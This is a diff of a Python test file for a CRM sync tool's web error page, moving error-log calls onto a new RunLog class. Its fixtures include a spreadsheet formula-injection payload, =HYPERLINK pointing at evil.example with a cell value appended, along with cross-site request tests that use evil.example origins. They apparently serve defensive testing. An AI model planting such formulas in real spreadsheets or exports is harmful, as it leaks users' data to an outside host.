@@ -20,6 +20,7 @@ from mapc.runtime.health.records import Where
 from mapc.runtime.health.status import ABANDONED, run_history
 from mapc.runtime.sync import schema as s
 from mapc.runtime.sync.lock import RunLock
+from mapc.runtime.sync.runlog import RunLog
 from mapc.runtime.sync.state import StateStore
 from mapc.serve import app as serve_app
 from mapc.serve.app import ServeConfig, StateHolder, create_app
@@ -36,11 +37,11 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 def state_path(tmp_path: Path) -> Path:
     path = tmp_path / "state.db"
     state = StateStore(str(path))
-    run = state.start_run("hubspot_salesforce")
-    state.record_error(run, "contacts", "salesforce", "1", "BAD_VALUE", FORMULA)
-    state.record_error(run, "contacts", "salesforce", "2", "BAD_VALUE", "@SUM(1+1)")
-    state.record_error(run, "deals", "salesforce", "9", "REQUIRED_FIELD_MISSING", "plain")
-    state.finish_run(run, "completed_with_errors", {})
+    run = state.log.start_run("hubspot_salesforce")
+    state.log.record_error(run, "contacts", "salesforce", "1", "BAD_VALUE", FORMULA)
+    state.log.record_error(run, "contacts", "salesforce", "2", "BAD_VALUE", "@SUM(1+1)")
+    state.log.record_error(run, "deals", "salesforce", "9", "REQUIRED_FIELD_MISSING", "plain")
+    state.log.finish_run(run, "completed_with_errors", {})
     state.close()
     return path
 
@@ -134,7 +135,7 @@ def test_an_unknown_action_is_404_and_changes_nothing(state_path: Path) -> None:
     form = "object=contacts&side=salesforce&record_id=1"
     assert post(app, "/errors/delete", form, **BEARER).status == 404
     assert post(app, "/errors/Ignore", form, **BEARER).status == 404
-    assert len(StateStore(str(state_path), create=False).errors()) == 3
+    assert len(StateStore(str(state_path), create=False).log.errors()) == 3
 
 
 def test_an_older_schema_is_reported_and_left_as_it_is(state_path: Path) -> None:
@@ -187,7 +188,7 @@ def test_a_cookie_post_must_come_from_the_page(state_path: Path) -> None:
     foreign = {"cookie": cookie, "referer": "https://evil.example/x"}
     assert post(app, "/errors/ignore", form, **foreign).status == 403
     assert post(app, "/logout", cookie=cookie, origin="https://evil.example").status == 403
-    assert len(StateStore(str(state_path), create=False).errors()) == 3
+    assert len(StateStore(str(state_path), create=False).log.errors()) == 3
     page = {"cookie": cookie, "referer": f"http://{HOST}/?category=picklist"}
     answer = post(app, "/errors/ignore", form, **page)
     assert answer.status == 303 and "n=1" in (answer.header("location") or "")
@@ -200,19 +201,19 @@ def test_a_record_action_reads_only_that_records_errors(
     def every_error(*args: Any, **kwargs: Any) -> Any:
         raise AssertionError("a record's action read every error")
 
-    monkeypatch.setattr(StateStore, "errors", every_error)
+    monkeypatch.setattr(RunLog, "errors", every_error)
     app = app_for(state_path)
     answer = post(app, "/errors/ignore", "object=contacts&side=salesforce&record_id=2", **BEARER)
     assert answer.status == 303 and "n=1" in (answer.header("location") or "")
     monkeypatch.undo()
     state = StateStore(str(state_path), create=False)
-    assert {e.record_id for e in state.errors()} == {"1", "9"}
+    assert {e.record_id for e in state.log.errors()} == {"1", "9"}
 
 
 def _killed_run(path: Path) -> int:
     """A run whose process died: its row still `running`, its lock left behind, silent."""
     state = StateStore(str(path), create=False)
-    run = state.start_run("hubspot_salesforce")
+    run = state.log.start_run("hubspot_salesforce")
     gone = json.dumps({"host": "elsewhere", "pid": 1, "beat": time.time() - 3600})
     with state.engine.begin() as conn:
         conn.execute(s.meta.insert().values(key="lock:default", value=gone))
